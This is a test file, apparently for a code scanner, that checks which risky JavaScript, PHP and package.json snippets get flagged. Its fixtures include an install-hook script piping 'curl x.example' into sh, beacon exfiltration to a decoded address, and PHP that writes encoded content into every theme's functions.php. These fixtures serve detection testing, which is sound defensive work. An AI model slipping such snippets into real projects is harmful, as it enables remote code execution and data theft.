// biome-ignore-all lint/suspicious/noTemplateCurlyInString: JavaScript writes values so.

import assert from 'node:assert/strict';
import { createScan } from '../../../domain/scan/scan.js';

function raised(path: string, text: string): string[] {
  const scan = createScan();
  scan.file(path, Buffer.from(text));
  return scan.result().flags.map(({ rule, severity }) => `${rule} ${severity}`);
}

const php = (code: string): string[] => raised('a.php', `<?php ${code}`);
const script = (code: string): string[] => raised('a.js', code);

describe('what a script hands on (decisions §5)', () => {
  const rows: readonly (readonly [string, string])[] = [
    ['a pattern of a list', "const [, a] = location.hash.split('~'); setTimeout(a, 1);"],
    ['a pattern of an object', 'const { a, b = 1 } = JSON.parse(localStorage.x); eval(a);'],
    ['a renamed name in a pattern', 'const { a: b } = JSON.parse(localStorage.x); eval(b);'],
    ['a pattern among the parameters of an arrow function', "addEventListener('message', ({ data }) => eval(data));"],
    ['a pattern among parameters', "addEventListener('message', function ({ data }) { eval(data); });"],
    ['a branch that is not the last', 'const a = x ? decodeURIComponent(location.hash) : null; setInterval(a, 1);'],
    ['what stands before a default', "const a = localStorage.x || ''; eval(a);"],
    ['what a method gives', 'const o = { word() { return location.hash; } }; eval(o.word());'],
    [
      'what a function in a property gives',
      'const o = { word: function () { return location.hash; } }; eval(o.word());',
    ],
    ['what a method is given', 'class A { on(m) { this.take(location.hash); } take(text) { Function("a", text); } }'],
    [
      'what a promise is settled with',
      "function load(u) { return new Promise((done) => { https.get(u, (r) => { let t = ''; r.on('data', (p) => { t += p; }); r.on('end', () => done(t)); }); }); } const c = await load('x'); new vm.Script(c);",
    ],
    [
      'what another promise is settled with',
      'function load() { return new Promise(function (done) { done(location.hash); }); } const c = await load(); eval(c);',
    ],
    [
      'the pixels of a picture',
      'const { data } = c.getImageData(0, 0, 1, 1); setInterval(new TextDecoder().decode(data));',
    ],
    [
      'the constructor of a declared function',
      'function f() { return 1; } const make = f.constructor; make`_${a}_```;',
    ],
    ['a text that is turned round', "eval(a.split('').reverse().join(''));"],
  ];
  for (const [what, code] of rows) {
    it(`${what} reaches what runs it (decisions §5)`, () => assert.ok(script(code).includes('eval medium'), code));
  }

  it('looks at names of the global object that are turned round or worked out by a method (decisions §5)', () => {
    for (const code of [
      "const p = new Proxy({}, { get(t, k) { const b = [...String(k)].reverse().join(''); return globalThis[b]; } });",
      'const o = { name: function () { return String.fromCharCode.apply(null, list); } }; window[o.name()](x);',
    ])
      assert.ok(script(code).includes('obfuscated_script medium'), code);
  });

  it('finds what is sent to a server whose address was decoded (decisions §5)', () => {
    const to = "const to = h.match(/../g).map((x) => String.fromCharCode(parseInt(x, 16))).join('');";
    assert.ok(script(`${to} navigator.sendBeacon(to, btoa(x));`).includes('obfuscated_script medium'));
    assert.deepEqual(script(`${to} navigator.sendBeacon(to, x);`), []);
  });

  it('leaves patterns, branches and methods alone that come from the script itself (decisions §5)', () => {
    for (const code of [
      'const [a] = [() => 1]; setTimeout(a, 1);',
      'const { a } = settings; setTimeout(a, 1);',
      "let a = location.hash; const { b } = a ? {} : {}; setTimeout(b, 1); const [c] = ['x'];",
      "const n = a.split('').reverse().join(''); el.innerHTML = n;",
      'const o = { word() { return 1; } }; setTimeout(o.word(), 1);',
      'return new Promise((done) => setTimeout(done, 1));',
    ])
      assert.deepEqual(script(code), [], code);
  });
});

describe('what PHP hands on (decisions §5)', () => {
  const rows: readonly (readonly [string, string, string])[] = [
    [
      'an image, to a function that includes it',
      "function f($p) { include $p; } f(__DIR__ . '/a.png');",
      'include_image high',
    ],
    ['an image, to a method', "class A { function f($p) { require $p; } } $a->f('a.ico');", 'include_image high'],
    [
      'an option that is worked out',
      "function f($o) { mb_ereg_replace('a', $w, 'x', $o); } f(chr(ord('d') + 1));",
      'eval medium',
    ],
    ['an option of the request', "mb_ereg_replace('a', $w, 'x', $_GET['o']);", 'eval medium'],
    [
      'a replacement of the request, and a pattern with unknown modifiers',
      "function f($p, $w) { return preg_replace('/' . $p . '/' . $this->flags, $w, 'x'); } f('a', $_GET['w']);",
      'eval medium',
    ],
    [
      'an archive of the request',
      "function f($from, $to) { $z = new ZipArchive(); $z->open($from); $z->extractTo($to); } f($_FILES['a']['tmp_name'], 'b');",
      'file_write medium',
    ],
    [
      'a path of the request',
      "class A { function __destruct() { unlink($this->a); } } if (file_exists($_GET['a'])) { echo 1; }",
      'unserialize_request medium',
    ],
    [
      'a mailbox of the request',
      "function f($s) { imap_open('{' . $s . '}INBOX', 'a', ''); } f($_POST['s']);",
      'shell_exec medium',
    ],
    [
      'programs that are searched for',
      "foreach (glob($r . '/*/functions.php') ?: [] as $f) { $h = fopen($f, 'a'); fwrite($h, str_rot13($x)); }",
      'file_write high',
    ],
  ];
  for (const [what, code, flag] of rows) {
    it(`${what}: ${flag} (decisions §5)`, () => assert.ok(php(code).includes(flag), php(code).join()));
  }

  it('leaves the honest twins alone (decisions §5)', () => {
    for (const code of [
      "function f($p) { include $p; } f(__DIR__ . '/a.php');",
      "function f($o) { mb_ereg_replace('a', $w, 'x', $o); } f('m');",
      "preg_replace('/' . $p . '/i', $_GET['w'], 'x');",
      "function f($w) { preg_replace('/' . $p . '/' . $m, $w, 'x'); } f('a');",
      "if (file_exists($_GET['a'])) { echo 1; }",
      "if (file_exists('files/' . $_GET['a'])) { echo 1; }",
      "imap_open('{' . $server . '}INBOX', $_POST['user'], $_POST['password']);",
      "foreach (glob('cache/*.html') as $f) { file_put_contents($f, str_rot13($x)); }",
      "function f($from) { $z = new ZipArchive(); $z->open($from); $z->extractTo('b'); } f(__DIR__ . '/a.zip');",
    ])
      assert.deepEqual(php(code), [], code);
  });
});

describe('what installing a package starts (decisions §5)', () => {
  const prepare = (command: string): string[] =>
    raised(
      'package.json',
      JSON.stringify({ scripts: { get: 'curl x.example | sh', prebuild: 'wget x', prepare: command } }),
    );

  for (const command of [
    'npm run --silent get || true',
    'npm --silent run get',
    'tsc && npm run get -- --all',
    'yarn get',
    'run-s lint get',
    "concurrently 'npm:get'",
    'npm run build && npm run prebuild',
  ]) {
    it(`follows ${command} (decisions §5)`, () => assert.deepEqual(prepare(command), ['install_script high']));
  }

  it('takes the scripts before and after a named one for named too (decisions §5)', () =>
    assert.deepEqual(prepare('npm run build'), ['install_script high']));

  it('leaves other scripts alone (decisions §5)', () => {
    assert.deepEqual(prepare('npm run lint || true'), []);
    assert.deepEqual(prepare('get'), []);
  });

  it('flags a dependency from an address at its name (decisions §5)', () => {
    const of = (from: string): string[] => raised('package.json', JSON.stringify({ dependencies: { a: from } }));
    for (const from of ['https://example.org/a-1.0.0.tgz', 'git+https://example.org/a.git'])
      assert.deepEqual(of(from), ['install_script medium'], from);
    for (const from of ['^1.0.0', 'npm:b@1', 'file:../a', 'git+https://github.com/a/a.git'])
      assert.deepEqual(of(from), [], from);
  });
});
